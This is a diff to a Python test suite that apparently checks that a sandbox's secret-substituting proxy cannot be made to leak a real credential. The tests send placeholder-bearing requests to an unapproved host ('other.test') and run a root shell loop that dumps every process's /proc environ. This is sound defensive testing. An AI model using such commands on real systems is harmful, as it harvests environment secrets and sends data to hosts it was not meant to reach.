@@ -157,7 +157,9 @@ def test_hostile_sandbox_cannot_get_the_value_out(embedded, internet) -> None:
         assert got["status"] == 421, got
         # another SNI with the bound Host: not intercepted; the upstream sees the placeholder
         got = send(sbx, get("/", "allowed.test", "X-K: $K"), sni="other.test", ip=OTHER, verify=False)
-        assert got["status"] in (0, 200), got
+        assert got["status"] == 200, got
+        placeholder = sbx.commands.run('printf %s "$K"').stdout
+        assert [(r["local"], r["sni"]) for r in seen(internet, placeholder)] == [(OTHER, "other.test")]
         # CONNECT through the intercepted connection, and an absolute-form target naming another host
         assert send(sbx, "CONNECT other.test:443 HTTP/1.1\r\nHost: allowed.test\r\nX-K: $K\r\n\r\n")["status"] == 405
         got = send(sbx, "GET http://other.test/ HTTP/1.1\r\nHost: allowed.test\r\nX-K: $K\r\nConnection: close\r\n\r\n")
@@ -172,7 +174,7 @@ def test_hostile_sandbox_cannot_get_the_value_out(embedded, internet) -> None:
             "for p in /proc/[0-9]*; do cat $p/cmdline $p/environ 2>/dev/null; echo; done; ls /proc | head -50",
             user="root",
         )
-        assert "egress" not in probe.stdout and real not in probe.stdout
+        assert "_net.egress" not in probe.stdout and real not in probe.stdout
         net_dir = Path(json.loads(json.dumps(_instance_extra(sbx)))["net"]["net_dir"])
         assert sbx.commands.run(f"ls {net_dir}").exit_code != 0
         # the upstream never saw the value, but the placeholder went to other.test as it was
@@ -220,8 +222,9 @@ def test_body_substitution_when_asked(embedded, internet) -> None:
         secrets={"B": {"value": real, "hosts": ["allowed.test"], "body": True}, "H": value()},
         timeout=120,
     ) as sbx:
-        body = '{"key": "$B"}'
-        done = sbx.commands.run(f"curl -sS -X POST --data '{body}' https://allowed.test/echo")
+        done = sbx.commands.run(
+            'curl -sS -X POST --data "$(printf \'{"key": "%s"}\' "$B")" https://allowed.test/echo'
+        )
         assert done.exit_code == 0, done.stderr
         assert done.stdout == '{"key": "' + "*" * len(real) + '"}'
     carried = seen(internet, real)
